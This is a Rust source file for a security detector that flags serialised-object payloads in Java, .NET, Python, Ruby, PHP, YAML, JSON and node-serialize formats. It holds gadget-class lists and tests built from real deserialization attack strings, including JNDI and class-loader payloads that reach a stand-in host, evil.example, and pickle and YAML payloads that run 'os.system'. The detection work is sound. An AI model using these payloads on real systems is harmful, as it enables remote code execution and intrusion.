//! `@detectDeserialization`: an object written in the native format of a language, which its reader would bring to life.
//!
//! Recognises the headers of Java, .NET, Python and Ruby streams (raw, hexadecimal, base64), objects in PHP's and YAML's
//! notation, JSON that names a class to be loaded, Java beans in XML, and functions in node-serialize's notation.
//!
//! Leaves PHP's arrays and strings without objects, YAML's standard tags, JSON-LD's `@type` and Protobuf's type URLs
//! alone: none of them runs code.

use super::evidence::Best;
use super::scan::{Cursor, before, find_text, has_text, part, positions, starts_with};
use super::{Classes, Finding};

/// Judges the bytes of a value in one notation.
type Grammar = fn(&[u8]) -> Option<Finding>;

/// How many bytes of a base64 text are decoded to look for names in it.
const PEEK: usize = 160;

/// What text in PHP's, JSON's, YAML's, node's and XML's notation has, and what binary streams have.
const MARKS: Classes = Classes::DOUBLE
    .or(Classes::BANG)
    .or(Classes::DOLLAR)
    .or(Classes::LESS)
    .or(Classes::NEWLINE)
    .or(Classes::HIGH)
    .or(Classes::CONTROL)
    .or(Classes::NUL);

/// `aced0005`, `rO0AB` and `AAEAAAD/////` with the letters and digits they are made of.
const HEADERS: &[Classes] = &[Classes::in_text(b"aced0005"), Classes::in_text(b"rO0AB"), Classes::in_text(b"AAEAAAD/")];

/// A mark of one of the notations, the letters of a stream's header, a value that begins as a stream does in base64, or
/// the name of a class.
pub(super) fn may_find(value: &[u8], classes: Classes) -> bool {
    classes.any(MARKS)
        || classes.all_of_one(HEADERS)
        || matches!(value.first(), Some(b'g' | b'Y' | b'B') if value.len() >= 16)
        || value.starts_with(b"/wE")
        || may_be_gadget(value, classes)
}

/// Whether a value holds nothing but what names of classes hold, and ends in as many bytes without a dot as the shortest
/// of [`GADGETS`] has.
fn may_be_gadget(value: &[u8], classes: Classes) -> bool {
    const NAME: Classes = Classes::LETTER
        .or(Classes::DIGIT)
        .or(Classes::UNDERSCORE)
        .or(Classes::DOT)
        .or(Classes::SEMICOLON)
        .or(Classes::BRACKET);
    classes.any(Classes::DOT)
        && !classes.any(NAME.but())
        && value.last_chunk::<13>().is_some_and(|end| !end.contains(&b'.'))
}

pub(super) fn find(value: &[u8], classes: Classes) -> Option<Finding> {
    let mut best = Best::default();
    let is_stream = classes.any(Classes::HIGH.or(Classes::NUL)) || classes.all_of_one(HEADERS);
    if (is_stream && best.keep(java(value)))
        || ((is_stream || value.starts_with(b"/wE")) && best.keep(dotnet(value)))
        || best.keep(base64_stream(value))
    {
        return best.into_finding();
    }
    let pickle_like = classes.any(Classes::NEWLINE) || classes.any(Classes::HIGH);
    let grammars: [(bool, Grammar); 8] = [
        (classes.all(Classes::COLON.or(Classes::DOUBLE)), php),
        (classes.any(Classes::DOUBLE), json),
        (may_be_gadget(value, classes), gadget),
        (classes.any(Classes::BANG), yaml),
        (classes.any(Classes::DOLLAR), node),
        (classes.any(Classes::LESS), xml),
        (pickle_like, pickle),
        (classes.any(Classes::CONTROL), ruby),
    ];
    for (possible, grammar) in grammars {
        if possible && best.keep(grammar(value)) {
            break;
        }
    }
    best.into_finding()
}

/// `AC ED 00 05`, raw, hexadecimal or base64, followed by the tag of an object.
fn java(value: &[u8]) -> Option<Finding> {
    if value.len() < 4 {
        return None;
    }
    if let Some(at) = memchr::memmem::find(value, &[0xac, 0xed, 0x00, 0x05]) {
        return Some(Finding::certain("Java object stream", at..at + 4));
    }
    if let Some(at) = find_text(value, b"aced0005", 0)
        && !before(value, at).is_some_and(|byte| byte.is_ascii_hexdigit())
        && value.get(at + 8).is_some_and(|&byte| byte == b'7')
    {
        return Some(Finding::certain("Java object stream in hexadecimal", at..at + 8));
    }
    let at = memchr::memmem::find(value, b"rO0AB")?;
    let tagged = value.get(at + 5).is_some_and(|byte| matches!(byte, b'X' | b'Q' | b'V' | b'W' | b'Y'));
    (tagged && !before(value, at).is_some_and(is_base64))
        .then(|| Finding::certain("Java object stream in base64", at..at + 5))
}

/// The header of a .NET `BinaryFormatter` stream, raw or base64.
fn dotnet(value: &[u8]) -> Option<Finding> {
    let raw: &[u8] = &[0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1];
    if value.starts_with(raw) {
        return Some(Finding::certain(".NET object stream", 0..raw.len()));
    }
    // ASP.NET's own state begins like this; within it an object stream is no state.
    if value.starts_with(b"/wE") {
        let mut bytes = [0_u8; PEEK];
        let count = decode_base64(value, &mut bytes);
        if memchr::memmem::find(part(&bytes, 0, count), raw).is_some() {
            return Some(Finding::certain(".NET object stream in a view state", 0..value.len()));
        }
    }
    let at = memchr::memmem::find(value, b"AAEAAAD/////")?;
    (!before(value, at).is_some_and(is_base64)).then(|| Finding::certain(".NET object stream in base64", at..at + 12))
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
}

/// Names that stand in a stream which does harm, in Python and in Ruby.
const HARMFUL: &[&[u8]] = &[
    b"system",
    b"subprocess",
    b"posix",
    b"builtins",
    b"__builtin__",
    b"eval",
    b"exec",
    b"popen",
    b"commands",
    b"os\n",
    b"nt\n",
    b"runpy",
    b"importlib",
    b"gem::",
    b"erb",
    b"deprecat",
    b"kernel",
    b"net::",
    b"logger",
    b"reduce",
];

/// Base64 of a Python pickle or of Ruby's Marshal format, at the beginning of the value.
fn base64_stream(value: &[u8]) -> Option<Finding> {
    if !matches!(value.first(), Some(b'g' | b'Y' | b'B')) {
        return None;
    }
    let python = [
        b"gASV".as_slice(),
        b"gAR",
        b"gAN",
        b"gAJ",
        b"Y29zCnN5c3RlbQ",
        b"Y3Bvc2l4",
        b"Y19fYnVpbHRpbl9f",
        b"Y2J1aWx0aW5z",
    ];
    let ruby = [b"BAhv".as_slice(), b"BAhb", b"BAh7", b"BAhJ", b"BAhV", b"BAhj"];
    let is_python = python.iter().any(|head| value.starts_with(head));
    if !is_python && !ruby.iter().any(|head| value.starts_with(head)) {
        return None;
    }
    if value.len() < 16 || !value.iter().take(PEEK).all(|&byte| is_base64(byte) || matches!(byte, b'=' | b'%')) {
        return None;
    }
    let mut bytes = [0_u8; PEEK];
    let count = decode_base64(value, &mut bytes);
    let decoded = part(&bytes, 0, count);
    if HARMFUL.iter().any(|name| has_text(decoded, name)) {
        return Some(Finding::certain("object stream that names what it would run, in base64", 0..value.len()));
    }
    (is_python && value.starts_with(b"gASV") || value.starts_with(b"BAhv") || value.starts_with(b"BAhV"))
        .then(|| Finding::likely("object stream in base64", 0..value.len()))
}

/// Decodes as much as fits; how many bytes that were.
fn decode_base64(text: &[u8], bytes: &mut [u8]) -> usize {
    let (mut bits, mut held, mut count) = (0_u32, 0_u32, 0);
    for &byte in text {
        let Some(six) = super::super::decode::base64_digit(byte) else { break };
        bits = (bits << 6 | u32::from(six)) & 0xff_ffff;
        held += 6;
        if held >= 8 {
            held -= 8;
            let Some(place) = bytes.get_mut(count) else { break };
            *place = (bits >> held).to_le_bytes()[0];
            count += 1;
        }
    }
    count
}

/// `O:8:"Name":1:{` or `C:8:"Name":…`, also with a sign before the number.
fn php(value: &[u8]) -> Option<Finding> {
    for at in memchr::memchr2_iter(b'O', b'C', value) {
        if before(value, at).is_some_and(|byte| byte.is_ascii_alphanumeric()) {
            continue;
        }
        let mut cursor = Cursor::from(value, at + 1);
        if !cursor.eat(b':') {
            continue;
        }
        cursor.eat(b'+');
        if cursor.take_at_most(10, |byte| byte.is_ascii_digit()).is_empty() || !cursor.eat(b':') {
            continue;
        }
        cursor.eat(b'\\');
        if !cursor.eat(b'"') {
            continue;
        }
        let name =
            cursor.take_at_most(256, |byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'\\' | 0x80..));
        if !name.is_empty() && cursor.eat(b'"') && cursor.eat(b':') {
            return Some(Finding::certain("serialised PHP object", at..cursor.at()));
        }
        if !name.is_empty() && part(value, cursor.at(), cursor.at() + 3) == b"\\\":" {
            return Some(Finding::certain("serialised PHP object", at..cursor.at()));
        }
    }
    None
}

/// Beginnings of class names that no data model of an interface has.
const CLASSES: &[&[u8]] = &[
    b"com.sun.",
    b"java.",
    b"javax.",
    b"org.apache.",
    b"org.springframework.",
    b"ch.qos.logback.",
    b"com.mchange.",
    b"org.hibernate.",
    b"oracle.jdbc.",
    b"com.zaxxer.",
    b"org.codehaus.",
    b"br.com.anteros.",
    b"com.ibatis.",
    b"com.alibaba.fastjson",
    b"org.jboss.",
    b"sun.",
    b"jdk.",
    b"com.caucho.",
    b"net.sf.ehcache.",
    b"org.eclipse.jetty.",
    b"system.windows.",
    b"system.diagnostics.",
    b"system.management.automation.",
    b"system.configuration.install.",
    b"system.io.",
    b"system.security.",
    b"system.activities.",
    b"system.data.services.",
    b"microsoft.visualstudio.",
    b"system.web.security.",
    b"system.collections.arraylist",
    b"system.identitymodel.",
    b"system.runtime.remoting.",
];

/// A key that names a class (`"@type"`, `"$type"`, `"@class"`, `"class"`, `"__type"`), or a class name leading a list.
fn json(value: &[u8]) -> Option<Finding> {
    for key in [b"type\"".as_slice(), b"@c\"", b"class\""] {
        let mut from = 0;
        while let Some(at) = find_text(value, key, from) {
            from = at + key.len();
            let mut cursor = Cursor::from(value, from);
            cursor.skip_space();
            if !cursor.eat(b':') {
                continue;
            }
            cursor.skip_space();
            let start = cursor.at();
            cursor.eat(b'"');
            cursor.eat(b'L');
            cursor.take_at_most(4, |byte| byte == b'[');
            if CLASSES.iter().any(|class| starts_with(cursor.rest(), class)) {
                return Some(Finding::certain("JSON that names a class to be loaded", at..start + 1));
            }
        }
    }
    let mut cursor = Cursor::new(value);
    cursor.skip_space();
    let listed = cursor.eat(b'[') && cursor.eat(b'"') && CLASSES.iter().any(|class| starts_with(cursor.rest(), class));
    listed.then(|| Finding::certain("JSON that names a class to be loaded", 0..cursor.at()))
}

/// Classes whose mere name, as the whole value, asks for an object that does harm.
const GADGETS: &[&[u8]] = &[
    b"jdbcrowsetimpl",
    b"templatesimpl",
    b"classpathxmlapplicationcontext",
    b"filesystemxmlapplicationcontext",
    b"badattributevalueexpexception",
    b"invokertransformer",
    b"chainedtransformer",
    b"propertypathfactorybean",
    b"scriptenginemanager",
    b"annotationinvocationhandler",
    b"jndiconfiguration",
    b"drivermanagerconnectionsource",
    b"objectdataprovider",
    b"jndiconverter",
    b"jtatransactionmanager",
];

/// A class name as the whole value, as it is left of `{"@type":"…"}` when JSON is read into values.
fn gadget(value: &[u8]) -> Option<Finding> {
    if value.len() > 160 || !value.iter().all(|byte| super::scan::is_word(*byte) || matches!(byte, b'.' | b';' | b'['))
    {
        return None;
    }
    let name = value.rsplit(|byte| *byte == b'.').next()?;
    let name = name.strip_suffix(b";").unwrap_or(name);
    super::scan::is_one_of(name, GADGETS)
        .then(|| Finding::certain("class that does harm when it is loaded", 0..value.len()))
}

/// Tags of YAML that make objects.
const TAGS: &[&[u8]] = &[
    b"!!python/object",
    b"!!python/name",
    b"!!python/module",
    b"!!javax.",
    b"!!java.",
    b"!!com.",
    b"!!org.",
    b"!!sun.",
    b"!!ch.",
    b"!!ruby/",
    b"!ruby/object",
    b"!ruby/hash",
    b"!ruby/struct",
    b"!ruby/class",
    b"!ruby/regexp",
    b"!php/object",
    b"!<tag:yaml.org,2002:python/",
    b"!<tag:yaml.org,2002:javax.",
    b"!!js/function",
];

fn yaml(value: &[u8]) -> Option<Finding> {
    positions(b'!', value).find_map(|at| {
        let rest = value.get(at..)?;
        let tag = TAGS.iter().find(|tag| starts_with(rest, tag))?;
        Some(Finding::certain("YAML tag that makes an object", at..at + tag.len()))
    })
}

fn node(value: &[u8]) -> Option<Finding> {
    let at = find_text(value, b"_$$nd_func$$_", 0)?;
    Some(Finding::certain("function in node-serialize notation", at..at + 13))
}

/// Elements of Java's bean and object XML.
fn xml(value: &[u8]) -> Option<Finding> {
    if let Some(at) =
        find_text(value, b"<dynamic-proxy>", 0).or_else(|| find_text(value, b"<java.util.priorityqueue", 0))
    {
        return Some(Finding::certain("Java object in XML", at..at + 15));
    }
    for head in [b"class=\"java.".as_slice(), b"class=\"javax.", b"class='java.", b"class=\"com.sun."] {
        if let Some(at) = find_text(value, head, 0) {
            return Some(Finding::certain("Java object in XML", at..at + head.len()));
        }
    }
    let at = find_text(value, b"<objectdataprovider", 0)?;
    Some(Finding::certain(".NET object in XML", at..at + 19))
}

/// Modules a pickle imports to do harm.
const MODULES: &[&[u8]] = &[
    b"os",
    b"posix",
    b"nt",
    b"sys",
    b"subprocess",
    b"builtins",
    b"__builtin__",
    b"commands",
    b"runpy",
    b"importlib",
    b"timeit",
    b"code",
    b"pty",
    b"shutil",
    b"platform",
    b"socket",
];

/// `c<module>\n<name>\n` in text, or a binary protocol header and its closing `.`.
fn pickle(value: &[u8]) -> Option<Finding> {
    if let [0x80, 2..=5, .., b'.'] = value {
        return Some(Finding::certain("Python pickle", 0..2));
    }
    if !value.trim_ascii_end().ends_with(b".") {
        return None;
    }
    for at in positions(b'c', value) {
        if !matches!(before(value, at), None | Some(b'\n' | b'(' | b'.' | 0x02..=0x05)) {
            continue;
        }
        let mut cursor = Cursor::from(value, at + 1);
        let module = cursor.take_at_most(16, super::scan::is_word);
        if !super::scan::is_one_of(module, MODULES) || !cursor.eat(b'\n') {
            continue;
        }
        let name = cursor.take_at_most(32, |byte| super::scan::is_word(byte) || byte == b'.');
        if !name.is_empty()
            && cursor.eat(b'\n')
            && matches!(cursor.peek(), Some(b'(' | b'p' | b'q' | b'U' | b'X' | 0x80..))
        {
            return Some(Finding::certain("Python pickle that imports what it would run", at..cursor.at()));
        }
    }
    None
}

/// Ruby's Marshal format, version 4.8, holding an object.
fn ruby(value: &[u8]) -> Option<Finding> {
    let [4, 8, b'o' | b'[' | b'{' | b'U' | b'I' | b'c', ..] = value else { return None };
    HARMFUL.iter().any(|name| has_text(part(value, 0, 512), name)).then(|| Finding::certain("Ruby object stream", 0..3))
}

#[cfg(test)]
mod tests {
    use crate::detect::check::{finds, is_certain_of, is_linear_in, is_quiet_about};
    use crate::detect::{Grade, find};
    use crate::seclang::ast::OperatorKind::DetectDeserialization;

    #[test]
    fn finds_objects_in_text() {
        is_certain_of(
            DetectDeserialization,
            &[
                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
                "rO0ABQ==",
                "com.sun.rowset.JdbcRowSetImpl",
                "Lcom.sun.rowset.JdbcRowSetImpl;",
                "/wEy5AIAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdA",
                "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA",
                "aced00057372001164",
                "ACED0005737200",
                "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0",
                "O:8:\"Evil\\Name\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
                "O:+8:\"stdClass\":0:{}",
                "a:1:{i:0;O:3:\"Foo\":0:{}}",
                "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
                "user=O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:5:\"admin\";b:1;}",
                "{\\\"x\\\":O:4:\\\"User\\\":0:{}}",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://evil.example/a\",\"autoCommit\":true}",
                "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\"}",
                "{ \"@type\" : \"java.lang.AutoCloseable\" }",
                "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]",
                "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {}]",
                "{\"@class\":\"org.apache.commons.configuration.JNDIConfiguration\"}",
                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}",
                "{\"__type\":\"System.Diagnostics.Process\"}",
                "{\"b\":{\"@type\":\"java.net.Inet4Address\",\"val\":\"x\"}}",
                "!!python/object/apply:os.system [\"id\"]",
                "- !!python/object/new:subprocess.Popen [[id]]",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                "--- !ruby/object:Gem::Installer\ni: x\n",
                "!!com.sun.rowset.JdbcRowSetImpl\n dataSourceName: ldap://x",
                "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
                "cos\nsystem\n(S'id'\ntR.",
                "cposix\nsystem\np0\n(S'id'\np1\ntp2\nRp3\n.",
                "c__builtin__\neval\n(S'1'\ntR.",
                "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZ3aG9hbWmUhZRSlC4=",
                "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
                "Y29zCnN5c3RlbQooUydpZCcKdFIu",
                "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"/></java>",
                "<dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>",
                "<void class=\"java.lang.Runtime\" method=\"getRuntime\">",
                "<ObjectDataProvider MethodName=\"Start\" x:Key=\"\">",
            ],
        );
        finds(DetectDeserialization, &["gASVIQAAAAAAAACMBWFiY2RllIwGYWJjZGVmlJOU"]);
    }

    #[test]
    fn finds_objects_in_bytes() {
        for value in [
            b"\xac\xed\x00\x05sr\x00".as_slice(),
            b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00",
            b"\x80\x04\x95\x21\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94R.",
            b"\x80\x03cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
            b"\x04\x08o:\x15Gem::Requirement\x06",
        ] {
            assert_eq!(
                find(DetectDeserialization, value).map(|found| found.grade),
                Some(Grade::Certain),
                "{}",
                value.escape_ascii()
            );
        }
    }

    #[test]
    fn leaves_data_without_objects_alone() {
        is_quiet_about(
            DetectDeserialization,
            &[
                "a:2:{s:3:\"foo\";i:1;s:3:\"bar\";b:1;}",
                "s:5:\"hello\";",
                "{\"@type\":\"Person\",\"@context\":\"https://schema.org\"}",
                "{\"@type\":\"type.googleapis.com/google.protobuf.Duration\"}",
                "{\"type\":\"com.example.Order\"}",
                "{\"class\":\"btn btn-primary\"}",
                "{\"$type\":\"MyApp.Models.Order, MyApp\"}",
                "!!str 123",
                "!!int \"3\"",
                "wow!! great!",
                "!important",
                "rO0m",
                "rock0AB",
                "XrO0ABXs",
                "AAEAAAD",
                "H4sIAAAAAAAAA",
                "gASP",
                "BAH7",
                "Bahnhof",
                "aced",
                "aced0005",
                "NO:1:\"x\":",
                "ratio O:2:1",
                "C:\\dir",
                "C:11",
                "cos\nsin\n(x)",
                "code\nblock\n(text)",
                "import os\nos.listdir()",
                "c\nd\n(",
                "_$$_",
                "<div class=\"java\">",
                "<script src=\"java.js\">",
                "gANotherName12345678",
            ],
        );
    }

    #[test]
    fn takes_linear_time() {
        is_linear_in(
            DetectDeserialization,
            &[
                "rO0AB",
                "aced0005",
                "O:1:\"",
                "O:8:\"aaaaaaaaaaaaaaaa",
                "\"type\":",
                "!!",
                "cos\n",
                "class=\"",
                "gASV",
                "<java",
                "C:1:\"a\":\"",
                "c",
            ],
        );
    }
}
